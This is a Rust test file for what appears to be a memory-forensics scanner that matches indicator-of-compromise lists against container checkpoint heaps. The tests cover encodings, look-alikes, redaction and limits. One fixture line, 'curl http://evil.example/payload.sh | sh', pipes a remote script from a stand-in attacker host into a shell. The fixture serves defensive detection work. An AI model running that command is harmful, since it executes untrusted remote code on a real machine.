//! Lists of indicators: what of them a checkpoint holds, where, and what is only alike.
#![expect(clippy::unwrap_used, reason = "a test that cannot run fails")]

use std::path::PathBuf;
use std::sync::Arc;

use cryoscan::indicator::{ListError, Lists};
use cryoscan::limits::Limits;
use cryoscan::matching::Kernel;
use cryoscan::scan::{ChosenLists, Settings};
use cryoscan_tests::builder::{Archive, Checkpoint, Mapping, Process, Producer};
use cryoscan_tests::random::Random;
use cryoscan_tests::samples::{CELL, HEAP};
use cryoscan_tests::scanned::{Files, Scanned, address, revealing, scan};
use cryoscan_tests::values;
use serde_json::Value;

const LIST: &str = "\
# what to look for
hxxp://evil[.]example/payload.sh
evil[.]example        # and all below it

203.0.113.7
10.0.0.1
198.51.100.0/24
2001:db8::bad
00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff
never.example
";

fn chosen(list: PathBuf) -> Arc<ChosenLists> {
    let lists = Lists::read(&[list]).unwrap();
    assert_eq!(lists.wrong, 0, "{:?}", lists.faults);
    Arc::new(ChosenLists { indicators: Arc::new(lists.indicators), notes: Vec::new() })
}

fn archive(mapping: Mapping) -> Archive {
    let process = Process::new(1, "app").map(mapping);
    Archive::of(Producer::Podman, &Checkpoint::new().process(process))
}

/// What was found, by the indicator: its type, rule, line, confidence and places.
fn listed(scanned: &Scanned) -> Vec<(String, String, String, u64, Vec<u64>)> {
    let is_listed = |record: &&Value| record["attributes"]["list"].is_string();
    let mut all: Vec<_> = scanned
        .records
        .iter()
        .filter(is_listed)
        .map(|record| {
            assert_eq!(record["class"], "indicator", "{record}");
            assert_eq!(record["severity"], "high", "{record}");
            let word = |text: &Value| text.as_str().unwrap().to_owned();
            let kind = word(&record["indicator"]["type"]);
            assert_eq!(record["rule"]["id"], format!("ioc:{kind}"), "{record}");
            let places = record["places"].as_array().unwrap();
            let places = places.iter().map(|place| address(&place["address"]).unwrap() - HEAP);
            let line = word(&record["attributes"]["list.line"]);
            let count = record["count"].as_u64().unwrap();
            (word(&record["indicator"]["value"]), kind, line, count, places.collect())
        })
        .collect();
    all.sort();
    all
}

fn row(
    value: &str,
    kind: &str,
    line: u32,
    places: &[u64],
) -> (String, String, String, u64, Vec<u64>) {
    (value.to_owned(), kind.to_owned(), line.to_string(), places.len() as u64, places.to_vec())
}

#[test]
fn indicators_are_found_where_they_stand_in_every_writing() {
    let files = Files::new();
    let list = files.add("feed.txt", LIST.as_bytes());
    let inside = r#"{"host": "evil.example", "token": "a quiet document of some length"}"#;
    let packed = data_encoding::BASE64.encode(inside.as_bytes());
    let hash = "00112233445566778899AABBCCDDEEFF00112233445566778899AABBCCDDEEFF";
    let heap = Mapping::zero(HEAP, 0x40000)
        .put(HEAP + 0x100, "curl http://evil.example/payload.sh | sh")
        .put(HEAP + 0x200, "GET / HTTP/1.1\r\nHost: a.b.EVIL.example\r\n")
        .put_utf16(HEAP + 0x300, "https://evil.example/other")
        .put(HEAP + 0x400, packed.as_bytes())
        .put(HEAP + 0x800, "peer=203.0.113.7:443")
        .put(HEAP + 0x900, "198.51.100.77")
        .put(HEAP + 0xa00, "[2001:DB8:0::bad]:443")
        .put(HEAP + 0xb00, format!("sha256:{hash}"))
        // At the end of a window of one cell.
        .put(HEAP + CELL - 5, "203.0.113.7");
    let archive = archive(heap);
    let path = files.add("target.tar", &archive.tar());
    let settings = Settings { indicators: Some(chosen(list.clone())), ..revealing() };
    let scanned = scan(&[&path], &settings);
    assert_eq!(scanned.whole().faults(), Vec::<String>::new());
    let expected = [
        row(&hash.to_lowercase(), "sha256", 9, &[0xb07]),
        row("198.51.100.0/24", "ipv4", 7, &[0x900]),
        row("2001:db8::bad", "ipv6", 8, &[0xa01]),
        row("203.0.113.7", "ipv4", 5, &[0x805, CELL - 5]),
        row("evil.example", "domain", 3, &[0x20a + 16, 0x300 + 16, 0x400 + 13]),
        row("http://evil.example/payload.sh", "url", 2, &[0x105]),
    ];
    assert_eq!(listed(&scanned), expected);
    let run = &scanned.records[0]["rules"]["lists"][0];
    assert_eq!((&run["name"], &run["indicators"]), (&list.display().to_string().into(), &8.into()));
    // The list changes what the report says was looked for.
    let without = scan(&[&path], &revealing());
    assert!(listed(&without).is_empty() && without.records[0]["rules"]["lists"].is_null());
    assert_ne!(without.records[0]["rules"]["hash"], scanned.records[0]["rules"]["hash"]);
}

#[test]
fn what_is_only_alike_is_no_indicator() {
    let files = Files::new();
    let list = files.add("feed.txt", LIST.as_bytes());
    let alike = [
        "110.0.0.1",
        "10.0.0.12",
        "10.0.0.1.5",
        "1.10.0.0.1",
        "v10.0.0.1",
        "10.0.0.1a",
        "010.0.0.1",
        "10.0.0.01",
        "notevil.example",
        "evil.example.com",
        "evil.examples",
        "evil.example-x.org",
        "my-evil.example",
        "http://evil.example.org/payload.sh",
        "evil_example",
        "2001:db8::bad1",
        "12001:db8::bad",
        "2001:db8:::bad",
        "0x00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff",
        "00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff0",
        "198.51.101.1",
        "never.examples",
    ];
    let text = alike.join("\n");
    let heap = Mapping::zero(HEAP, 0x10000).put(HEAP + 0x100, &text);
    let path = files.add("target.tar", &archive(heap).tar());
    let settings = Settings { indicators: Some(chosen(list)), ..revealing() };
    assert_eq!(listed(&scan(&[&path], &settings)), []);
    // A URL is whole too: here is its host, and no more.
    let longer = ["payload.sh2", "payload.sh/x", "payload", "payload.sh?x", "PAYLOAD.sh"];
    let longer = longer.map(|path| format!("http://evil.example/{path}")).join(" ");
    let heap = Mapping::zero(HEAP, 0x10000).put(HEAP + 0x100, longer);
    let path = files.add("target.tar", &archive(heap).tar());
    let found = listed(&scan(&[&path], &settings));
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!((found[0].1.as_str(), found[0].3), ("domain", 5), "{found:?}");
}

#[test]
fn no_partition_and_no_kernel_changes_what_is_found() {
    let files = Files::new();
    let mut random = Random::new(13);
    let addresses: Vec<String> = (0..300)
        .map(|at| format!("203.{}.{}.{}", at % 7, random.below(256), random.below(256)))
        .collect();
    let names: Vec<String> = (0..300).map(|_| random.text(b"abcdefgh", 8) + ".example").collect();
    let lines = [&addresses[..], &names[..]].concat().join("\n");
    let list = files.add("feed.txt", lines.as_bytes());
    let length = 5 * usize::try_from(CELL).unwrap();
    let mut heap = Mapping::noise(HEAP, length, 3);
    let mut at = HEAP + 50;
    let mut all = [addresses, names].concat().into_iter().cycle();
    // One overlapping each border of a cell, too.
    while at + 100 < HEAP + 5 * CELL {
        let value = all.next().unwrap();
        let text = match random.below(3) {
            0 => format!("\0{value}\0"),
            1 => format!("\0{{\"peer\": \"{value}\"}}\0"),
            _ => String::new(),
        };
        heap = if text.is_empty() {
            heap.put_utf16(at, &format!(" to {value} "))
        } else {
            heap.put(at, text)
        };
        // Some cells hold so many that it is a list, others few.
        let is_list = (at / CELL).is_multiple_of(2);
        at += 100 + random.below(if is_list { 700 } else { 3000 }) as u64;
    }
    let path = files.add("target.tar", &archive(heap).tar());
    let indicators = Some(chosen(list));
    let report = |threads, window, kernel| {
        let indicators = indicators.clone();
        let settings =
            Settings { threads, window, kernel: Some(kernel), indicators, ..revealing() };
        scan(&[&path], &settings)
    };
    let whole = report(1, 4 << 20, Kernel::best());
    let lists = whole.whole().notes("list-held").count();
    assert!(listed(&whole).len() > 200 && (1..5).contains(&lists), "{lists}");
    for kernel in Kernel::available() {
        for (threads, window) in [(1, 64 << 10), (2, 128 << 10), (8, 4 << 20)] {
            let other = report(threads, window, kernel);
            assert!(other.lines == whole.lines, "{threads} {window} {}", kernel.name());
        }
    }
}

#[test]
fn an_indicator_hides_no_secret_and_no_secret_hides_it() {
    let files = Files::new();
    let list = files.add("feed.txt", b"evil.example\n");
    let token = values::github_token(&mut Random::new(5));
    let text = format!("https://user:{token}@evil.example/{token}");
    let heap = Mapping::zero(HEAP, 0x10000).put(HEAP + 0x100, &text);
    let path = files.add("target.tar", &archive(heap).tar());
    let settings = Settings { indicators: Some(chosen(list)), ..Settings::default() };
    let scanned = scan(&[&path], &settings);
    let at = 0x100 + text.find("evil").unwrap() as u64;
    assert_eq!(listed(&scanned), [row("evil.example", "domain", 1, &[at])]);
    assert!(scanned.lines.iter().all(|line| !line.contains(&token)));
    let is_secret = |record: &&Value| record["class"] == "secret";
    assert!(scanned.records.iter().any(|record| is_secret(&record)));
}

#[test]
fn a_process_that_holds_the_list_crowds_nothing_out() {
    let files = Files::new();
    let lines: Vec<String> = (0..2000).map(|at| format!("host-{at}.example")).collect();
    let list = files.add("feed.txt", lines.join("\n").as_bytes());
    let token = values::github_token(&mut Random::new(5));
    let again = "connect to host-1.example";
    let heap = Mapping::zero(HEAP, 0x40000)
        .put(HEAP, lines.join("\n"))
        .put(HEAP + 0x20000, &token)
        .put(HEAP + 0x30000, again);
    let path = files.add("target.tar", &archive(heap).tar());
    let limits = Limits { listed: 50, findings: 10, ..Limits::default() };
    let settings = Settings { indicators: Some(chosen(list)), ..revealing() };
    let scanned = scan(&[&path], &settings);
    assert_eq!(scanned.whole().faults(), Vec::<String>::new());
    let all = listed(&scanned);
    assert_eq!(all.len(), 64);
    // Nothing speaks for those that only stand in the list.
    let confidence = |value: &str| {
        let found = scanned.whole().finding(value.as_bytes()).unwrap();
        (found["confidence"].as_str().unwrap().to_owned(), found["count"].as_u64().unwrap())
    };
    assert_eq!(confidence("host-0.example"), ("low".to_owned(), 1));
    assert_eq!(confidence("host-1.example"), ("high".to_owned(), 2));
    assert_eq!(scanned.whole().notes("list-held").count(), 1);
    assert!(scanned.outcome.complete);

    let scanned = scan(&[&path], &Settings { limits, ..settings });
    assert_eq!(scanned.whole().faults(), Vec::<String>::new());
    assert_eq!(listed(&scanned).len(), 50);
    assert!(scanned.whole().finding(token.as_bytes()).is_some());
    let whole = scanned.whole();
    let said: Vec<String> =
        whole.notes("limit-reached").map(|note| note["message"].to_string()).collect();
    assert!(said.len() == 1 && said[0].contains("more indicators of lists"), "{said:?}");
}

#[test]
fn lists_that_are_wrong_are_told() {
    let files = Files::new();
    let of = |text: &[u8]| Lists::read(&[files.add("feed.txt", text)]);
    for empty in [&b""[..], b"# nothing\n\n; here\n"] {
        assert!(matches!(of(empty), Err(ListError::Empty { .. })));
    }
    let absent = Lists::read(&[PathBuf::from("/no/such/list")]);
    assert!(matches!(absent, Err(ListError::Unreadable { .. })));
    let mixed = [
        b"\xef\xbb\xbf10.0.0.1\r\nnonsense\r\n".as_slice(),
        &vec![b'a'; 20_000],
        b"\n\xff\xff\n10.0.0.2",
    ];
    let lists = of(&mixed.concat()).unwrap();
    let lines: Vec<u32> = lists.faults.iter().map(|fault| fault.line).collect();
    assert_eq!((lines.as_slice(), lists.wrong), ([2, 3, 4].as_slice(), 3));
    assert_eq!(lists.indicators.lists()[0].count, 2);
    let text = lists.faults[0].to_string();
    assert!(
        text.ends_with("\"nonsense\"") && text.contains("feed.txt:2: expected a domain"),
        "{text}"
    );
    assert!(lists.check().is_ok());
    assert!(of(b"nonsense").unwrap().check().is_err());
}
